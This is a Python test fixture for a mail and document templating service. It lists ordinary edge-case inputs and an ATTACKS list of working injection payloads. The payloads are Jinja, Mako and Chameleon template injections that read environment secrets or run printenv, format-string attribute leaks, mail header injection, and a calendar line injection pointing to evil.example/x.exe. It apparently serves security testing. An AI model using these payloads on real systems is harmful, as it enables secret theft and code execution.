"""Mails and documents out of templates."""

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.ninth import (
    BUG,
    COMPANIES,
    COMPLAINT,
    ESSAY,
    LATEX,
    NAMES,
    POSTER,
    RICH,
    SPREAD,
    STREETS,
    URL,
    api,
    bus,
    form,
    graphql,
    http,
    pool,
    queue,
    topic,
)

NEEDS = ("aws-http",)
SECRET = "letters-key-3381"


def _user(name: str, **more: str) -> dict[str, object]:
    return pool(
        "CustomMessage_SignUp", "u", {"name": name, **{"custom:" + key: value for key, value in more.items()}}
    )


def _preview(template: str) -> dict[str, object]:
    return api("POST", "/preview", {"template": template})


def _notify(title: str, **more: str) -> dict[str, object]:
    return bus("Ticket Created", {"title": title, **more})


def _contract(**values: str) -> dict[str, object]:
    return http("POST", "/contract", {"values": values})


def _sms(**arguments: str) -> dict[str, object]:
    return graphql("Mutation", "sms") | {"arguments": arguments}


def _page(headline: str, *lines: str) -> dict[str, object]:
    return http("PUT", "/page", {"headline": headline, "lines": lines})


def _footer(team: str, footer: str) -> tuple[str, dict[str, object]]:
    return ("save_footer", form("/footer", team=team, footer=footer))


def _raw(to: str, subject: str, text: str = "x") -> dict[str, object]:
    return http("POST", "/send", {"to": to, "subject": subject, "text": text})


def _invite(title: str, place: str = "Room 1", start: str = "20251103T091244Z") -> dict[str, object]:
    return http("POST", "/invite", {"title": title, "place": place, "start": start})


REQUESTS = {
    "welcome": [
        _user(NAMES[0]),
        _user(NAMES[8], note=COMPLAINT),
        _user("{{ name }}", note=RICH),
        _user(NAMES[6]),
    ],
    "order_mail": [
        queue(
            {
                "name": NAMES[2],
                "items": [{"title": "Tea {{ 1 }} & 'cup'", "price": 4.5}, {"title": POSTER, "price": 0}],
            }
        ),
        queue(
            {"template": "plain.txt", "name": COMPANIES[0], "text": BUG},
            {"template": "plain.txt", "name": "", "text": ESSAY},
        ),
        queue({"name": "${x} #{y} <%= z %>", "items": [], "note": LATEX}),
    ],
    "preview": [
        _preview("Hi {{ customer.first_name }}, you have {{ customer.points }} points at {{ shop }}."),
        _preview(RICH),
        _preview("{% if customer.points > 10 %}<b>Gold</b>{% else %}Basic{% endif %} {{ shop|upper }}"),
    ],
    "notify": [
        _notify('It\'s broken: "Error 500" (50%)', text=BUG, url=URL),
        _notify("Größe {x} <b> & more; select * from x"),
        _notify("Invoice #4711 paid {a, b} $x ${y}", text="{{ no }}"),
        _notify(COMPLAINT, text=RICH),
    ],
    "contract": [
        _contract(party=COMPANIES[0], clause=COMPLAINT),
        _contract(party=NAMES[3], clause='§ 1 (a) 5% {of} the <price>; it\'s "net"'),
        _contract(party=NAMES[5], clause=SPREAD),
    ],
    "sms": [
        _sms(name=NAMES[0], code="4711"),
        _sms(name="{account} & {code}"),
        _sms(name=NAMES[7], pattern="{code} is your code, {account}!"),
        _sms(name="50%", pattern="Dear {account!s:>10}: {code!s}"),
    ],
    "greeting": [
        {"name": NAMES[0], "points": 5},
        {"name": NAMES[8]},
        {"name": COMPANIES[3], "points": 12.5},
        {"name": "{{Ann}}"},
    ],
    "percent": [
        {"name": NAMES[1], "text": "50% off %(now)s %s %d"},
        {"name": "100%", "text": BUG},
        {"name": NAMES[4]},
    ],
    "banner": [
        {"name": "100% Ann", "text": "Hello"},
        {"name": NAMES[0], "text": COMPLAINT.replace("%", "")},
        {"name": "{x}", "text": "It's {new} & $5"},
    ],
    "reminder": [
        {"name": NAMES[0], "pattern": "Dear $name, see you $day. $$5 off!"},
        {"name": "$shop", "pattern": "${name} -- ${unknown} it's {day} 50%"},
    ],
    "campaign": [
        topic("First line\n<b>It's</b> 50% off\n${name}\n% if x:", "Spring sale: it's here!"),
        topic(COMPLAINT, 'Zoë\'s "news" & more (5%)'),
        topic(BUG, None),
        topic(RICH, "$5 off {today} #1"),
    ],
    "page": [
        _page("It's 5 > 3 & more", "one", "${two}", RICH),
        _page("Größe $5 {x}", BUG),
        _page(NAMES[8], COMPLAINT, LATEX),
    ],
    "save_footer": [
        _footer("sales", "Kind regards,\nThe sales team (it's us & you) 50% <b>")[1],
        _footer("dev", BUG)[1],
        _footer("t {x}", STREETS[0])[1],
    ],
    "team_mail": [
        {"team": "sales", "text": COMPLAINT},
        {"team": "dev", "text": "{{ team }}"},
        {"team": "none", "text": RICH},
    ],
    "send_raw": [
        _raw("o'neil@example.org", 'Re: It\'s 50% off: "new"', COMPLAINT),
        _raw("Zoë <zoe@example.de>, b@example.org", "Größe?", BUG),
        _raw("a@example.org", "", "Subject: no\n\nBcc: no"),
    ],
    "send_mime": [
        http(
            "POST",
            "/m",
            {"to": ["a@example.org", '"O\'Neil, B." <b@example.org>'], "subject": "Hi\nthere", "text": BUG},
        ),
        http("POST", "/m", {"to": ["zoe@example.de"], "subject": POSTER, "text": ESSAY}),
    ],
    "invite": [
        _invite("Caoimhe's birthday; 50% fun", STREETS[0]),
        _invite("Lunch\nand dinner", STREETS[2], "20251224T180000"),
        _invite("Größe: 1:1", ""),
    ],
    "template_of_bucket": [
        {"tenant": "acme", "name": NAMES[0], "lines": ["2 x {{ tea }}", "it's 5%"]},
        {"tenant": "o-reilly_sons", "name": COMPANIES[1], "lines": []},
        {"tenant": "5", "name": "{% raw %}", "lines": [POSTER]},
    ],
}
ATTACKS = [
    Attack("template, Jinja", "notify", _notify("{{ app.key }}"), SECRET),
    Attack(
        "template, Jinja",
        "notify",
        _notify("{{ self.__init__.__globals__.__builtins__.__import__('os').environ.MAIL_PASSWORD }}"),
        SECRET,
    ),
    Attack("template, Jinja", "notify", _notify("x*{{ app|attr('ke' + 'y') }}*"), SECRET),
    Attack(
        "template, Jinja",
        "notify",
        _notify("{% for a in app.__dict__.values() %}{{ a }}{% endfor %}"),
        SECRET,
    ),
    Attack("template, Jinja", "notify", _notify("{%- print 7331 * 3 -%}"), "21993"),
    Attack(
        "template, Jinja",
        "notify",
        _notify("{{ lipsum['__globals__']['o''s'].popen('pr' 'intenv MAIL_PASSWORD').read() }}"),
        SECRET,
    ),
    Attack(
        "template, Jinja", "notify", _notify("{{ cycler.__init__.__globals__.os.getcwd() }}"), "/var/task"
    ),
    Attack(
        "template, Jinja",
        "notify",
        _notify(
            "{{ ''.__class__.__mro__[1].__subclasses__()|map(attribute='__name__')|select('equalto','_wrap_close')|list }}"
        ),
        "_wrap_close']",
    ),
    Attack(
        "template, Jinja",
        "contract",
        _contract(party="x", clause="{{ joiner.__init__.__globals__.os.environ['MAIL_PASSWORD'] }}"),
        SECRET,
    ),
    Attack(
        "template, two fields",
        "contract",
        _contract(
            party="{<<clause>>", clause="{ namespace.__init__.__globals__.os.environ['MAIL_PASSWORD'] }}"
        ),
        SECRET,
    ),
    Attack(
        "template, two fields",
        "contract",
        _contract(
            party="{% set os = cycler.__init__.__globals__.os %}",
            clause="{{ os.environ.MAIL_PASSWORD[::-1] }}",
        ),
        SECRET[::-1],
    ),
    Attack(
        "template, comment",
        "contract",
        _contract(party="me {#", clause="#} and you pay {{ 7331 * 3 }}"),
        "21993",
    ),
    Attack(
        "format, attributes", "sms", _sms(name="x", pattern="{account.__init__.__globals__[API_KEY]}"), SECRET
    ),
    Attack(
        "format, attributes",
        "sms",
        _sms(name="x", pattern="{account.__class__.__str__.__globals__[os].environ[MAIL_PASSWORD]!r:*>40}"),
        SECRET,
    ),
    Attack(
        "format, attributes",
        "sms",
        _sms(name="x", pattern="{account.__init__.__globals__[os].environ}"),
        "MAIL_PASSWORD",
    ),
    Attack("format, attributes", "greeting", {"name": "{account.__init__.__globals__[API_KEY]}"}, SECRET),
    Attack(
        "format, attributes",
        "greeting",
        {"name": "{account.__module__} {account.__dict__}"},
        "'plan': 'basic'",
    ),
    Attack(
        "format, attributes",
        "greeting",
        {"name": "{account.__class__.__init__.__code__.co_filename}"},
        "/var/task/app.py",
    ),
    Attack("format, percent", "banner", {"name": "Ann", "text": "%(api_key)s"}, SECRET),
    Attack("format, percent", "banner", {"name": "%(api_key)r", "text": "", "safe": False}, SECRET),
    Attack("template, Mako", "campaign", topic("x", "${7331 * 3}"), "21993"),
    Attack(
        "template, Mako", "campaign", topic("x", "<%! import os %>${os.environ['MAIL_PASSWORD']}"), SECRET
    ),
    Attack(
        "template, Mako",
        "campaign",
        topic("x", "${self.module.runtime.util.os.popen('printenv MAIL_PASSWORD').read()}"),
        SECRET,
    ),
    Attack(
        "template, Mako",
        "campaign",
        topic("x", "News\n% if __import__('os').environ.get('MAIL_PASSWORD'):\nyes-it-is\n% endif\n"),
        "\\nyes-it-is",
    ),
    Attack(
        "template, Mako",
        "campaign",
        topic("x", "<%\ncontext.write(open('/proc/self/environ').read())\n%>"),
        "PARTNER_URL",
    ),
    Attack("template, Chameleon", "page", _page("${secret}"), SECRET),
    Attack("template, Chameleon", "page", _page("${7331 * 3}"), "21993"),
    Attack("template, Chameleon", "page", _page("${[s.upper() for s in (secret,)][-1]}"), SECRET.upper()),
    Attack("template, Chameleon", "page", _page("${structure: secret}"), SECRET),
    Attack(
        "template, second order",
        "team_mail",
        {"team": "q1", "text": "x"},
        SECRET,
        before=[_footer("q1", "{{ cycler.__init__.__globals__.os.environ.MAIL_PASSWORD }}")],
    ),
    Attack(
        "template, second order",
        "team_mail",
        {"team": "q2", "text": "printenv MAIL_PASSWORD"},
        SECRET,
        before=[_footer("q2", "{{ lipsum.__globals__.os.popen(text).read() }}")],
    ),
    Attack(
        "template, second order",
        "team_mail",
        {"team": "q3", "text": "x"},
        "21993",
        before=[_footer("q3", "Regards\n{%print(7331*3)%}")],
    ),
    Attack(
        "header, mail",
        "send_raw",
        _raw("a@example.org\nBcc: all@example.net", "x"),
        '[\\"Bcc\\", \\"all@example.net\\"]',
    ),
    Attack(
        "header, mail",
        "send_raw",
        _raw("a@example.org", "Hi\nReply-To: evil@example.net\nX-Spam: no"),
        '[\\"Reply-To\\", \\"evil@example.net\\"]',
    ),
    Attack(
        "header, mail",
        "send_raw",
        _raw("a@example.org\nContent-Type: text/html", "x"),
        '[\\"Content-Type\\", \\"text/html\\"]',
    ),
    Attack(
        "lines, calendar",
        "invite",
        _invite("x", "y", "20251103T091244Z\r\nATTACH:https://evil.example/x.exe"),
        "\\r\\nATTACH:https://evil",
    ),
    Attack("lines, calendar", "invite", _invite("x\rORGANIZER:mailto:ceo@example.org", "y"), "\\rORGANIZER"),
]
